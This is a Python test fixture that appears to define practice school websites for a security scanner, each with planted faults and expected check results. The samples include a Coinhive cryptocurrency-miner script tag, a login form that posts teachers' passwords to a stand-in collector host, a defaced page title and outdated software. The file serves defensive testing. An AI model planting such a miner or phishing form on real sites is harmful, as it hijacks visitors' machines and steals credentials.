"""Schools on whose pages strangers wrote, whose software is too old, or whose links lead nowhere; and how it is done well."""

from scanner.practice.site import PagePlan, PracticeSite, WebPlan
from scanner.practice.truth import MET, NEEDS_REVIEW, NOT_MET, NOT_TESTED, healthy
from scanner.practice.zones import FOR_SALE

SCRIPT_FAULTS = (
    PracticeSite(
        id="thcs-giot-muc",
        name="Trường THCS Giọt Mực",
        kind="thcs",
        commune="20209",
        manager="commune",
        host="thcs-giotmuc-thuchanh.edu.vn",
        fault="A miner of cryptocurrency, WordPress 4.6, jQuery 1.12.4 and Bootstrap 3.3.7.",
        web=WebPlan(
            page=PagePlan(
                generator="WordPress 4.6.29",
                head='<script src="https://coinhive.com/lib/coinhive.min.js"></script>\n'
                '<script src="/thu-vien/jquery-1.12.4.min.js"></script>\n'
                '<script src="/thu-vien/bootstrap/3.3.7/js/bootstrap.min.js"></script>\n',
            )
        ),
        truth=healthy(
            no_malicious_script=NOT_MET,
            cms_supported=NOT_MET,
            libraries_safe=NOT_MET,
            scripts_pinned=NOT_MET,
            software_version_hidden=NOT_MET,
            directory_listing_off=MET,
        ),
    ),
    PracticeSite(
        id="th-cong-vang",
        name="Trường Tiểu học Cổng Vàng",
        kind="tieu-hoc",
        commune="20341",
        manager="commune",
        host="th-congvang-thuchanh.edu.vn",
        fault="The form for teachers sends their passwords to a stranger; the links of an office that is no more are dead.",
        web=WebPlan(
            page=PagePlan(
                body='<form action="https://thu-thap.example/nhan" method="post"><input name="ten">'
                '<input type="password" name="matkhau"><button>Đăng nhập</button></form>\n'
                '<p><a href="https://phonggd-cu-thuchanh.edu.vn/">Phòng Giáo dục (cũ)</a></p>\n',
            )
        ),
        truth=healthy(no_phishing_sign=NOT_MET, links_alive=NOT_MET, forms_submit_securely=MET),
    ),
    PracticeSite(
        id="mn-vet-muc",
        name="Trường Mầm non Vệt Mực",
        kind="mam-non",
        commune="20260",
        manager="commune",
        host="mn-vetmuc-thuchanh.edu.vn",
        fault="Strangers put their name into the title; a link leads to a name that is for sale; Joomla 3 by its addresses.",
        web=WebPlan(
            page=PagePlan(
                title="H4ck3d by Bong Dem Crew",
                generator="Joomla! - Open Source Content Management",
                head='<script src="/media/jui/js/jquery.min.js"></script>\n',
                body=f'<p><a href="http://{FOR_SALE}/lich-cong-tac">Lịch công tác của Phòng</a></p>\n',
            )
        ),
        truth=healthy(
            not_defaced=NOT_MET,
            links_alive=NEEDS_REVIEW,
            cms_supported=NEEDS_REVIEW,
            libraries_safe=NOT_TESTED,
            directory_listing_off=MET,
        ),
        causes={"libraries-safe": frozenset({"scanner-cannot"})},
    ),
    PracticeSite(
        id="thpt-khung-troi",
        name="Trường THPT Khung Trời",
        kind="thpt",
        commune="20242",
        manager="so-gddt",
        host="thpt-khungtroi-thuchanh.edu.vn",
        fault="None: sound software, a sign-in of its own, a living link, and an article about a hacked page.",
        web=WebPlan(
            page=PagePlan(
                generator="WordPress",
                head='<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"></script>\n',
                body="<article><h3>Cảnh báo: trang web bị hack bởi nhóm lạ</h3><p>Sau vụ một trang bị sửa thành dòng chữ"
                " Hacked by nhóm lạ, nhà trường nhắc thầy cô đổi mật khẩu và không mở tệp đính kèm.</p></article>\n"
                '<form action="/dang-nhap" method="post"><input name="ten"><input type="password" name="matkhau">'
                "<button>Đăng nhập</button> <span>Đăng nhập bằng VNeID</span></form>\n"
                '<p><a href="https://thcs-hoasen-thuchanh.edu.vn/">Trường kết nghĩa</a></p>\n',
            )
        ),
        truth=healthy(
            libraries_safe=MET,
            links_alive=MET,
            forms_submit_securely=MET,
            directory_listing_off=MET,
        ),
    ),
)
